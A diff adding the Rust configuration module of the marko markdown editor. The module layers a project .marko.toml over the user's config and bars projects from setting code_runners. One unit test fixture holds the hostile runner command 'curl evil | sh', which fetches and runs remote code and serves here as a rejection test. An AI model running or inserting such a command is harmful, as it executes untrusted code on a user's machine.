@@ -0,0 +1,520 @@
+//! User configuration loaded from `config.toml`.
+//!
+//! Looked up at `$XDG_CONFIG_HOME/marko/config.toml`, falling back to
+//! `~/.config/marko/config.toml`. Every key is optional; missing keys (or a
+//! missing file) use the built-in defaults.
+//!
+//! A project can override it with a `.marko.toml`: the nearest one found
+//! walking up from the open file's directory. Its keys replace the user's
+//! key by key, so the order is project over user over defaults. A project
+//! only sets how files are formatted and wrapped (`PROJECT_KEYS`); anything
+//! else, like the commands in `code_runners`, stays the user's to choose,
+//! since a cloned repository shouldn't decide what marko runs.
+
+use std::collections::HashMap;
+use std::path::{Path, PathBuf};
+
+use serde::Deserialize;
+
+use crate::markdown::table_format::{ListIndent, WrapIndent};
+
+#[derive(Debug, Clone, PartialEq, Deserialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct Config {
+    /// Maximum time between clicks to count as multi-click (double/triple).
+    pub multi_click_ms: u64,
+    /// Lines of context kept visible above/below the cursor (like vim's `scrolloff`).
+    pub scrolloff: u16,
+    /// Include files matched by `.gitignore`/`.ignore` in workspace scans
+    /// (opening a folder).
+    pub include_ignored_files: bool,
+    /// Directory names always skipped by workspace scans, in addition to ignore files.
+    pub exclude_dirs: Vec<String>,
+    /// Style `**bold**`, `*italic*` and `~~strike~~` in the editor, dimming the markers.
+    pub live_emphasis: bool,
+    /// Hard-wrap column for editing and saving; the visible text width is used
+    /// when unset or when the terminal is narrower.
+    pub wrap_width: Option<usize>,
+    /// Hard-wrap lines while typing and on save. Toggled by Ctrl+Shift+W.
+    pub auto_wrap: bool,
+    /// Format tables (and hard-wrap, with `auto_wrap`) when saving. Off, the
+    /// buffer is written exactly as it is, keeping diffs minimal.
+    pub format_on_save: bool,
+    /// Reformat a table when the cursor leaves one of its rows, so columns
+    /// line up while typing instead of only on save.
+    pub live_table_format: bool,
+    /// Whether wrapped list item lines line up under the item's text
+    /// (`"text"`) or under its marker (`"marker"`).
+    pub list_continuation: ListIndent,
+    /// Spaces after `>` on the wrapped lines of a blockquote.
+    pub quote_continuation_spaces: usize,
+    /// Typing a closing bracket or quote just before the same character
+    /// steps over it instead of inserting another, as after auto-close.
+    pub type_over_closers: bool,
+    /// Wrap long lines on screen only, leaving the buffer and file untouched.
+    /// Replaces hard-wrapping entirely while on.
+    pub soft_wrap: bool,
+    /// Git rev the gutter diffs against, e.g. `"origin/main"` (default HEAD).
+    pub diff_base: Option<String>,
+    /// Git gutter marker: one glyph for every change, or three for added,
+    /// modified and removed lines (e.g. `"+~-"`).
+    pub gutter_glyph: String,
+    /// Columns the git gutter marker fills (only over blank gutter cells).
+    pub gutter_marker_width: u16,
+    /// Dim markdown markers (`#`, `*`, `` ` ``, `>`, list bullets) in the editor. Toggled by Alt+M.
+    pub dim_markers: bool,
+    /// Shell command per code block language for Alt+X, fed the block on
+    /// stdin (e.g. `sh = "sh"`, `python = "python3"`). Blocks in languages
+    /// not listed here never run.
+    pub code_runners: HashMap<String, String>,
+    /// Show the filename and modified state in the terminal window title.
+    pub window_title: bool,
+    /// Status bar message shown at startup; empty for none. Unset, a key
+    /// summary is shown (or a welcome on the very first run).
+    pub startup_hint: Option<String>,
+    /// Underline misspelled words in prose (needs the `spellcheck` feature).
+    pub spellcheck: bool,
+    /// Word list to spell check against, one word per line (hunspell `.dic`
+    /// files work too). Unset, a system word list is used if one is found.
+    pub spell_dictionary: Option<PathBuf>,
+    /// Word goal shown as progress in the status bar, for files that don't
+    /// set their own (front matter `goal:` or a modeline).
+    pub word_goal: Option<usize>,
+    /// Pomodoro interval for the focus timer (F6): every this many minutes
+    /// of a session, the status bar reminds you to take a break.
+    pub pomodoro_minutes: Option<u64>,
+    /// Syntax-highlight only the code block the cursor is in, sparing the
+    /// work on documents with many large blocks.
+    pub highlight_current_fence_only: bool,
+    /// `"vim"` adds a Normal mode to the editor (Esc enters it, `i` / `a`
+    /// leave it); the default `"modeless"` always types.
+    pub editing: Editing,
+    /// What opening a file that doesn't exist does: `"create"` it empty
+    /// (the default), `"prompt"` first, or open a `"buffer"` that only
+    /// reaches the disk when saved.
+    pub missing_file: MissingFile,
+    /// Save every modified file before exiting on SIGTERM / SIGINT. Off,
+    /// the terminal is still restored but unsaved edits are dropped.
+    pub save_on_signal: bool,
+    /// UI colors: `"dark"`, `"light"`, `"high-contrast"` or `"custom"` (from
+    /// `theme.toml`). Unset, the custom theme is used if there is one, and
+    /// dark otherwise. F8 cycles them for the session.
+    pub theme: Option<String>,
+    /// Syntax-highlighting theme for code blocks, one of the bundled syntect
+    /// themes (`marko themes` lists them). Unset, or an unknown name, uses
+    /// the one matching `theme`.
+    pub code_theme: Option<String>,
+    /// Decoded images kept in memory for the preview and inline thumbnails
+    /// (and as many resized copies); the least recently drawn go first.
+    pub image_cache_size: usize,
+}
+
+/// How keys edit in the editor (see `Config::editing`).
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Deserialize)]
+#[serde(rename_all = "lowercase")]
+pub enum Editing {
+    #[default]
+    Modeless,
+    Vim,
+}
+
+/// What to do when the file to edit doesn't exist (see
+/// `Config::missing_file`).
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Deserialize)]
+#[serde(rename_all = "lowercase")]
+pub enum MissingFile {
+    #[default]
+    Create,
+    Prompt,
+    Buffer,
+}
+
+impl std::str::FromStr for MissingFile {
+    type Err = String;
+
+    fn from_str(s: &str) -> Result<Self, Self::Err> {
+        match s {
+            "create" => Ok(Self::Create),
+            "prompt" => Ok(Self::Prompt),
+            "buffer" => Ok(Self::Buffer),
+            _ => Err(format!("expected create, prompt or buffer, not {:?}", s)),
+        }
+    }
+}
+
+/// Name of the project config file (see the module docs).
+const PROJECT_FILE: &str = ".marko.toml";
+
+/// The keys a project config may set: formatting and wrapping.
+const PROJECT_KEYS: &[&str] = &[
+    "auto_wrap",
+    "format_on_save",
+    "live_table_format",
+    "list_continuation",
+    "quote_continuation_spaces",
+    "soft_wrap",
+    "wrap_width",
+];
+
+/// Startup hint on the very first run.
+const FIRST_RUN_HINT: &str = "Welcome to marko! Press F1 for help";
+
+/// Startup hint on every later run.
+const DEFAULT_HINT: &str = "F1: help | Tab: switch mode | Ctrl+S: save | Ctrl+Q: quit";
+
+impl Default for Config {
+    fn default() -> Self {
+        Self {
+            multi_click_ms: 500,
+            scrolloff: 0,
+            include_ignored_files: false,
+            exclude_dirs: Vec::new(),
+            live_emphasis: false,
+            dim_markers: false,
+            wrap_width: None,
+            auto_wrap: true,
+            format_on_save: true,
+            live_table_format: true,
+            list_continuation: ListIndent::Text,
+            quote_continuation_spaces: 1,
+            type_over_closers: true,
+            soft_wrap: false,
+            diff_base: None,
+            gutter_glyph: "\u{258E}".to_string(),
+            gutter_marker_width: 1,
+            code_runners: HashMap::new(),
+            window_title: true,
+            startup_hint: None,
+            spellcheck: false,
+            spell_dictionary: None,
+            word_goal: None,
+            pomodoro_minutes: None,
+            highlight_current_fence_only: false,
+            editing: Editing::Modeless,
+            missing_file: MissingFile::Create,
+            save_on_signal: false,
+            theme: None,
+            code_theme: None,
+            image_cache_size: crate::components::images::DEFAULT_CACHE_SIZE,
+        }
+    }
+}
+
+impl Config {
+    /// Path of the config file, or None if no home/config directory is known.
+    pub fn path() -> Option<PathBuf> {
+        let base = std::env::var_os("XDG_CONFIG_HOME")
+            .filter(|v| !v.is_empty())
+            .map(PathBuf::from)
+            .or_else(|| std::env::var_os("HOME").map(|h| PathBuf::from(h).join(".config")))?;
+        Some(base.join("marko").join("config.toml"))
+    }
+
+    /// Loads the user config. A missing file yields the defaults; an unreadable
+    /// or malformed file is an error describing what went wrong.
+    pub fn load() -> Result<Self, String> {
+        Self::load_layers(Self::path(), None)
+    }
+
+    /// Loads the config for editing `file`: the user config with the
+    /// project's `.marko.toml` (see `project_path`) layered over it.
+    pub fn load_for(file: &Path) -> Result<Self, String> {
+        Self::load_layers(Self::path(), Self::project_path(file))
+    }
+
+    /// The nearest `.marko.toml` in the directory of `file` or above.
+    pub fn project_path(file: &Path) -> Option<PathBuf> {
+        file.parent()?
+            .ancestors()
+            .map(|dir| dir.join(PROJECT_FILE))
+            .find(|path| path.is_file())
+    }
+
+    /// Merges the `project` config file over the `user` one (either may be
+    /// missing). The project file may only set `PROJECT_KEYS`.
+    fn load_layers(user: Option<PathBuf>, project: Option<PathBuf>) -> Result<Self, String> {
+        let mut merged = Self::read_layer(user.as_deref())?;
+        let project_table = Self::read_layer(project.as_deref())?;
+        let disallowed = project_table.keys().find(|key| !PROJECT_KEYS.contains(&key.as_str()));
+        if let (Some(path), Some(key)) = (&project, disallowed) {
+            return Err(format!("{}: `{}` can only be set in the user config", path.display(), key));
+        }
+        merged.extend(project_table);
+        toml::Value::Table(merged)
+            .try_into()
+            .map_err(|e: toml::de::Error| e.message().to_string())
+    }
+
+    /// The keys of the config file at `path`; none if it's missing.
+    fn read_layer(path: Option<&Path>) -> Result<toml::Table, String> {
+        let Some(path) = path else {
+            return Ok(toml::Table::new());
+        };
+        let text = match std::fs::read_to_string(path) {
+            Ok(text) => text,
+            Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(toml::Table::new()),
+            Err(e) => return Err(format!("{}: {}", path.display(), e)),
+        };
+        // Checked on its own so errors name the file they're in
+        Self::parse(&text).map_err(|e| format!("{}: {}", path.display(), e))?;
+        toml::from_str(&text).map_err(|e: toml::de::Error| e.message().to_string())
+    }
+
+    /// Parses config file contents.
+    pub fn parse(text: &str) -> Result<Self, String> {
+        toml::from_str(text).map_err(|e| e.message().to_string())
+    }
+
+    /// The status bar message to show at startup (empty for none).
+    pub fn startup_hint(&self, first_run: bool) -> String {
+        match self.startup_hint {
+            Some(ref hint) => hint.clone(),
+            None if first_run => FIRST_RUN_HINT.to_string(),
+            None => DEFAULT_HINT.to_string(),
+        }
+    }
+
+    /// How hard-wrapping indents continued list and blockquote lines.
+    pub fn wrap_indent(&self) -> WrapIndent {
+        WrapIndent {
+            list: self.list_continuation,
+            quote_spaces: self.quote_continuation_spaces,
+        }
+    }
+
+    /// Path of the marker file recording that marko has run before, next
+    /// to the config file.
+    pub fn first_run_marker() -> Option<PathBuf> {
+        Some(Self::path()?.with_file_name(".first-run-done"))
+    }
+
+    /// True on the very first run: when no first-run marker exists yet. The
+    /// marker is created, so later runs return false. Without a config
+    /// directory, every run counts as a later one.
+    pub fn take_first_run() -> bool {
+        Self::first_run_marker().is_some_and(|marker| take_marker(&marker))
+    }
+}
+
+/// Creates `marker` (and its directory) if missing; true if it was missing.
+/// If the marker can't be written, the next run counts as first again.
+fn take_marker(marker: &Path) -> bool {
+    if marker.exists() {
+        return false;
+    }
+    if let Some(dir) = marker.parent() {
+        let _ = std::fs::create_dir_all(dir);
+    }
+    let _ = std::fs::write(marker, "");
+    true
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_empty_config_uses_defaults() {
+        assert_eq!(Config::parse("").unwrap(), Config::default());
+    }
+
+    #[test]
+    fn test_multi_click_ms_override() {
+        let config = Config::parse("multi_click_ms = 300").unwrap();
+        assert_eq!(config.multi_click_ms, 300);
+    }
+
+    #[test]
+    fn test_scrolloff_override() {
+        let config = Config::parse("scrolloff = 5").unwrap();
+        assert_eq!(config.scrolloff, 5);
+        assert_eq!(config.multi_click_ms, 500);
+    }
+
+    #[test]
+    fn test_exclude_dirs_list() {
+        let config = Config::parse("exclude_dirs = [\"target\", \".obsidian\"]").unwrap();
+        assert_eq!(config.exclude_dirs, vec!["target", ".obsidian"]);
+    }
+
+    #[test]
+    fn test_live_emphasis_defaults_off() {
+        assert!(!Config::default().live_emphasis);
+        assert!(Config::parse("live_emphasis = true").unwrap().live_emphasis);
+    }
+
+    #[test]
+    fn test_code_runners_table() {
+        assert!(Config::default().code_runners.is_empty());
+        let config = Config::parse("code_runners = { sh = \"sh\", python = \"python3\" }").unwrap();
+        assert_eq!(config.code_runners.get("python").map(String::as_str), Some("python3"));
+        assert_eq!(config.code_runners.len(), 2);
+    }
+
+    #[test]
+    fn test_window_title_can_be_disabled() {
+        assert!(Config::default().window_title);
+        assert!(!Config::parse("window_title = false").unwrap().window_title);
+    }
+
+    #[test]
+    fn test_startup_hint_differs_on_first_run() {
+        let config = Config::default();
+        assert_ne!(config.startup_hint(true), config.startup_hint(false));
+        assert!(config.startup_hint(true).contains("F1"));
+    }
+
+    #[test]
+    fn test_startup_hint_override() {
+        let config = Config::parse("startup_hint = \"Happy writing\"").unwrap();
+        assert_eq!(config.startup_hint(true), "Happy writing");
+        assert_eq!(config.startup_hint(false), "Happy writing");
+        assert_eq!(Config::parse("startup_hint = \"\"").unwrap().startup_hint(false), "");
+    }
+
+    #[test]
+    fn test_first_run_marker_is_taken_once() {
+        let dir = tempfile::tempdir().unwrap();
+        let marker = dir.path().join("marko").join(".first-run-done");
+        assert!(take_marker(&marker));
+        assert!(marker.exists());
+        assert!(!take_marker(&marker));
+    }
+
+    #[test]
+    fn test_wrap_width_optional() {
+        assert_eq!(Config::default().wrap_width, None);
+        assert_eq!(Config::parse("wrap_width = 80").unwrap().wrap_width, Some(80));
+    }
+
+    #[test]
+    fn test_auto_wrap_can_be_disabled() {
+        assert!(Config::default().auto_wrap);
+        let config = Config::parse("auto_wrap = false").unwrap();
+        assert!(!config.auto_wrap);
+    }
+
+    #[test]
+    fn test_gutter_glyph_override() {
+        let config = Config::parse("gutter_glyph = \"+~-\"\ngutter_marker_width = 2").unwrap();
+        assert_eq!(config.gutter_glyph, "+~-");
+        assert_eq!(config.gutter_marker_width, 2);
+        assert_eq!(Config::default().gutter_glyph, "\u{258E}");
+    }
+
+    #[test]
+    fn test_unknown_key_is_error() {
+        assert!(Config::parse("no_such_option = 1").is_err());
+    }
+
+    #[test]
+    fn test_live_table_format_defaults_on() {
+        assert!(Config::default().live_table_format);
+        assert!(!Config::parse("live_table_format = false").unwrap().live_table_format);
+    }
+
+    #[test]
+    fn test_continuation_indent_options() {
+        assert_eq!(Config::default().wrap_indent(), WrapIndent::default());
+        let config = Config::parse("list_continuation = \"marker\"\nquote_continuation_spaces = 2").unwrap();
+        assert_eq!(config.wrap_indent(), WrapIndent { list: ListIndent::Marker, quote_spaces: 2 });
+        assert!(Config::parse("list_continuation = \"hanging\"").is_err());
+    }
+
+    #[test]
+    fn test_type_over_closers_defaults_on() {
+        assert!(Config::default().type_over_closers);
+        assert!(!Config::parse("type_over_closers = false").unwrap().type_over_closers);
+    }
+
+    #[test]
+    fn test_format_on_save_defaults_on() {
+        assert!(Config::default().format_on_save);
+        assert!(!Config::parse("format_on_save = false").unwrap().format_on_save);
+    }
+
+    #[test]
+    fn test_editing_mode() {
+        assert_eq!(Config::default().editing, Editing::Modeless);
+        assert_eq!(Config::parse("editing = \"vim\"").unwrap().editing, Editing::Vim);
+        assert!(Config::parse("editing = \"emacs\"").is_err());
+    }
+
+    #[test]
+    fn test_missing_file_mode() {
+        assert_eq!(Config::default().missing_file, MissingFile::Create);
+        let config = Config::parse("missing_file = \"buffer\"").unwrap();
+        assert_eq!(config.missing_file, MissingFile::Buffer);
+        assert_eq!("prompt".parse(), Ok(MissingFile::Prompt));
+        assert!("ask".parse::<MissingFile>().is_err());
+    }
+
+    #[test]
+    fn test_image_cache_size() {
+        assert_eq!(Config::default().image_cache_size, 32);
+        assert_eq!(Config::parse("image_cache_size = 8").unwrap().image_cache_size, 8);
+    }
+
+    #[test]
+    fn test_themes() {
+        assert_eq!(Config::default().theme, None);
+        assert_eq!(Config::default().code_theme, None);
+        let config = Config::parse("theme = \"light\"\ncode_theme = \"InspiredGitHub\"").unwrap();
+        assert_eq!(config.theme.as_deref(), Some("light"));
+        assert_eq!(config.code_theme.as_deref(), Some("InspiredGitHub"));
+    }
+
+    #[test]
+    fn test_project_path_is_nearest_above_file() {
+        let dir = tempfile::TempDir::new().unwrap();
+        let nested = dir.path().join("docs/guide");
+        std::fs::create_dir_all(&nested).unwrap();
+        let file = nested.join("intro.md");
+        assert_eq!(Config::project_path(&file), None);
+
+        std::fs::write(dir.path().join(".marko.toml"), "").unwrap();
+        assert_eq!(Config::project_path(&file), Some(dir.path().join(".marko.toml")));
+        std::fs::write(dir.path().join("docs/.marko.toml"), "").unwrap();
+        assert_eq!(Config::project_path(&file), Some(dir.path().join("docs/.marko.toml")));
+    }
+
+    #[test]
+    fn test_project_config_overrides_user_key_by_key() {
+        let dir = tempfile::TempDir::new().unwrap();
+        let user = dir.path().join("config.toml");
+        let project = dir.path().join(".marko.toml");
+        std::fs::write(&user, "scrolloff = 3\nformat_on_save = true\nauto_wrap = true").unwrap();
+        std::fs::write(&project, "format_on_save = false\nauto_wrap = false").unwrap();
+
+        let config = Config::load_layers(Some(user), Some(project)).unwrap();
+        assert!(!config.format_on_save, "project wins");
+        assert!(!config.auto_wrap);
+        assert_eq!(config.scrolloff, 3, "user keys the project leaves alone stay");
+        assert_eq!(config.multi_click_ms, 500, "defaults fill the rest");
+    }
+
+    #[test]
+    fn test_missing_layers_are_skipped_and_errors_name_the_file() {
+        let dir = tempfile::TempDir::new().unwrap();
+        let missing = dir.path().join("none.toml");
+        assert_eq!(Config::load_layers(Some(missing), None).unwrap(), Config::default());
+
+        let project = dir.path().join(".marko.toml");
+        std::fs::write(&project, "no_such_key = 1").unwrap();
+        let err = Config::load_layers(None, Some(project)).unwrap_err();
+        assert!(err.contains(".marko.toml"), "{}", err);
+    }
+
+    #[test]
+    fn test_project_config_cannot_set_code_runners() {
+        let dir = tempfile::TempDir::new().unwrap();
+        let user = dir.path().join("config.toml");
+        let project = dir.path().join(".marko.toml");
+        std::fs::write(&user, "[code_runners]\nsh = \"sh\"").unwrap();
+        std::fs::write(&project, "wrap_width = 72\n[code_runners]\nsh = \"curl evil | sh\"").unwrap();
+
+        let err = Config::load_layers(Some(user.clone()), Some(project)).unwrap_err();
+        assert!(err.contains("code_runners"), "{}", err);
+        assert_eq!(Config::load_layers(Some(user), None).unwrap().code_runners["sh"], "sh");
+    }
+}